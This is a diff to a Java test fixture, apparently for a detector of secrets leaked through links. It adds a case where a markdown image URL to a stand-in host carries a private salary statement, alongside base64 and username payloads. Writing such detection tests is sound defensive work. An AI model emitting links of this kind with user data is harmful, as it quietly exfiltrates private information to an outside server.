@@ -49,6 +49,7 @@ class SecretsAndLinksTest {
     @ParameterizedTest
     @CsvSource({
         "![logo](https://x.example/p.png?d=aGVsbG8gd29ybGQ), link.image",
+        "![a](https://x.example/p.png?d=张三的工资是九千元), link.image",
         "<img src=\"https://x.example/p.png?u=zhangsan1990\">, link.image",
         "![a](https://x.example/aGVsbG8gd29ybGQgYW5kIGFsbCB0aGUgcmVzdCBvZiBpdCBhbGwgdG9v), link.image",
         "[click](https://x.example/?q=aGVsbG8gd29ybGQgYW5kIGFsbCB0aGUgcmVzdCBvZiBpdA), link.data",
